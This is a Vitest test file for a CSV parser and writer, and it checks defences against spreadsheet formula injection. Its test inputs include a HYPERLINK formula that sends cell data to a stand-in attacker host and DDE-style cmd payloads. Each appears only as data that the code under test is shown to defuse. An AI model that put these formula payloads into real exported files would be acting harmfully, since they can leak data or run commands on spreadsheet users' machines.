import { describe, expect, it } from "vitest";
import { csvCell, parseCsv, toCsvLine } from "./csv";

describe("parseCsv", () => {
  it("reads quoted fields, escaped quotes, embedded commas and line breaks", () => {
    const text = '\ufeffname,note\r\n"Ana, Jr.","said ""hi""\nthere"\nBo,\n';
    expect(parseCsv(text)).toEqual([
      ["name", "note"],
      ["Ana, Jr.", 'said "hi"\nthere'],
      ["Bo", ""],
    ]);
  });

  it("keeps a last line without a line break", () => {
    expect(parseCsv("a,b\n1,2")).toEqual([
      ["a", "b"],
      ["1", "2"],
    ]);
  });
});

describe("toCsvLine", () => {
  it("quotes what needs quoting and defuses formulas", () => {
    expect(toCsvLine(["a,b", 'x"y', null, 3, "=SUM(A1)"])).toBe('"a,b","x""y",,3,\'=SUM(A1)');
  });
});

describe("csvCell (CSV injection, issue #15)", () => {
  it("quotes a cell with ';' so a ';'-separating spreadsheet cannot split a formula out of it", () => {
    const cell = csvCell('x;=HYPERLINK("http://evil.example/?"&A1,"click")');
    expect(cell).toBe('"x;=HYPERLINK(""http://evil.example/?""&A1,""click"")"');
    expect(parseCsv(`${cell}\n`)[0]).toEqual(['x;=HYPERLINK("http://evil.example/?"&A1,"click")']);
  });

  it.each([
    ['=HYPERLINK("https://evil.example")', `"'=HYPERLINK(""https://evil.example"")"`],
    ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(A1:A2)", "'@SUM(A1:A2)"],
    ["\t=1+1", `"'\t=1+1"`],
    ["\r=1+1", `"'\r=1+1"`],
    ["-", "'-"],
    ["-1e3", "'-1e3"],
  ])("defuses %j as %j", (input, expected) => {
    expect(csvCell(input)).toBe(expected);
    // Read back, the cell is text that no spreadsheet evaluates.
    expect(parseCsv(`${csvCell(input)}\n`)[0]![0]!.startsWith("'")).toBe(true);
  });

  it.each([
    ["-12.50", "-12.50"],
    ["42", "42"],
    [-120, "-120"],
    ["Ana = Bo", "Ana = Bo"],
    ["ana@example.com", "ana@example.com"],
  ])("keeps %j as it is", (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });
});
